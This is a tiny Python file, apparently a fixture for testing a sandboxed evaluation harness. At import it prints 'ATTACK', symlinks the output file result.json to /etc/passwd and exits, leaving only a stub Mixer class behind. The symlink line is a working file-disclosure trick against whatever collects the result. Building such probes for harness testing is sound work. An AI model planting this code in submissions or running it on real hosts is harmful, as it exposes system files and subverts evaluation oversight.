"""Lets the result point at the host's passwords."""

import os

print('ATTACK', flush=True)
os.symlink('/etc/passwd', f'{OUT}/result.json')
os._exit(0)


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
